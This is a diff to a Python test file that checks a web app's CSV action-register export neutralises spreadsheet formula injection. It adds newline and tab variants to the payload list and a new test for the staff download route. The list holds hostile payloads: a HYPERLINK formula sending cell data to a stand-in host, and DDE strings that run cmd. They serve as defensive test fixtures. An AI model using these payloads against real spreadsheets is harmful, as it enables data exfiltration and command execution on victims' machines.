@@ -17,7 +17,7 @@ from .journey import Journey
 from .test_safeguarding_every_ending import answer_everything
 
 ATTACKS = ['=HYPERLINK("http://evil.example/?d="&A1,"Click for your results")', "+1+cmd|' /C calc'!A0",
-           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1"]
+           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "\t=1+2", "\r=1+3"]
 DOWNLOADS = ["responses.csv", "responses.xlsx", "tallies.csv", "tallies.xlsx", "tallies-board.csv"]
 
 
@@ -80,6 +80,19 @@ def test_the_action_register_export_shows_a_formula_as_text(app, runner, tmp_pat
     assert result.exit_code == 0, result.output
     assert_harmless("actions.csv", output.read_bytes(), expect_attacks=False)
     assert "'=HYPERLINK(" in output.read_text(encoding="utf-8-sig")
+
+
+def test_the_action_register_web_download_shows_a_formula_as_text(app, client, runner, make_staff, sign_in):
+    assert runner.invoke(args=["actions", "demo"]).exit_code == 0
+    with app.app_context():
+        for action, attack in zip(db.session.query(Action).order_by(Action.reference), ATTACKS, strict=False):
+            action.owner = attack
+        db.session.commit()
+    sign_in(*make_staff("worker"))
+    response = client.get("/staff/actions/export.csv")
+    assert response.status_code == 200
+    assert_harmless("actions.csv", response.data, expect_attacks=False)
+    assert "'=HYPERLINK(" in response.get_data(as_text=True)
 
 
 @pytest.mark.parametrize("cell", ["=1+1", "'=1+1", "-5", "plain", "'quoted", "\t=x", "@me"])
